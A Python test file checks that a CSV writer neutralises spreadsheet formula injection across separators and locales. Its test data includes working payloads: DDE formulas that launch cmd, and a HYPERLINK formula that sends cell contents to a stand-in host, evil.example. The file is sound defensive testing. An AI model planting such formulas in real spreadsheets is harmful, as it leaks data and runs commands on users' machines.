"""CSV formula injection: text an uploader wrote so that a spreadsheet would run it arrives in
result.csv as inert text (OWASP: a leading single quote), while numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from worker.tabular import neutralise, write_csv

from tests.fixtures.algorithms import every_param as algorithm

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def attacker_csv() -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["=cmd|' /C calc'!A0", "x", "y", "note"])
    for n in range(40):
        offset = 0.0 if n % 2 else 10.0
        writer.writerow([f"r{n}", f"{offset + n % 7 * 0.1:.2f}", f"{-offset - n % 5 * 0.2:.2f}",
                         PAYLOADS[n % len(PAYLOADS)]])
    return buffer.getvalue().encode()


def test_formulas_in_cells_and_header_names_reach_result_csv_neutralised():
    result = algorithm.run(attacker_csv(), {}, lambda *_: None)
    rows = list(csv.reader(io.StringIO(result.csv.decode(), newline="")))
    assert rows[0][0] == "'=cmd|' /C calc'!A0"
    notes = {row[3] for row in rows[1:]}
    # A formula after a tab or line break is neutralised there too: a reader may start a cell there.
    assert notes == {"'" + payload for payload in PAYLOADS[:4]} | {"'\t'=1+1", "'\r'=1+1"}
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    assert any(row[2].startswith("-") and float(row[2]) < 0 for row in rows[1:])  # negative numbers untouched


def test_numbers_and_plain_text_are_written_bare_and_text_with_any_separator_quoted():
    out = write_csv(["name", "value"], [["-1.5", -2], ["+3", 4.5], ["plain - text", 0], ["", None],
                                        ["a;b", "c\td"], ['say "hi"', "x,y"]]).decode()
    assert out == ('name,value\r\n-1.5,-2\r\n+3,4.5\r\nplain - text,0\r\n,\r\n"a;b","c\td"\r\n'
                   '"say ""hi""","x,y"\r\n')


def reads_in_a_semicolon_locale(data: bytes) -> list[list[str]]:
    """The cells a spreadsheet whose list separator is ';' (German, French Excel) shows for a CSV."""
    return list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=";"))


def test_text_holding_a_semicolon_stays_one_inert_cell_for_a_semicolon_spreadsheet():
    out = write_csv(["note"], [["a;=1+1"], ["b;@SUM(A1);c"], ["x\t=2"], ["1;-3"]])
    shown = [["note"], ["a;'=1+1"], ["b;'@SUM(A1);c"], ["x\t'=2"], ["1;'-3"]]
    assert reads_in_a_semicolon_locale(out) == shown
    assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == shown


SPLIT_PAYLOADS = ["a;=1+1", "a,=1+1", "a\t=1+1", 'x;"=cmd|\' /C calc\'!A0"', "x; @SUM(A1)", "l1\n=1+1", "ok;-3"]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_separator_a_spreadsheet_may_assume_makes_a_formula_cell(separator):
    out = write_csv(["n", "note", "more"], [[1, payload, "z;w"] for payload in SPLIT_PAYLOADS]).decode()
    for row in csv.reader(io.StringIO(out, newline=""), delimiter=separator):
        for cell in row:
            shown = cell.lstrip(' "')
            assert neutralise(shown) == shown, (separator, cell)


def test_an_object_whose_text_is_a_formula_is_neutralised_too():
    class Shown:
        def __str__(self) -> str:
            return "=1+1"

    assert write_csv(["x"], [[Shown()]]) == b"x\r\n'=1+1\r\n"


def test_a_row_of_one_empty_cell_stays_a_row():
    assert list(csv.reader(io.StringIO(write_csv(["x"], [[""]]).decode(), newline=""))) == [["x"], [""]]


def test_a_cell_holding_a_carriage_return_stays_one_cell():
    out = write_csv(["note"], [["a\rb"], ["\r=1+1"]]).decode()
    assert list(csv.reader(io.StringIO(out, newline=""))) == [["note"], ["a\rb"], ["'\r'=1+1"]]
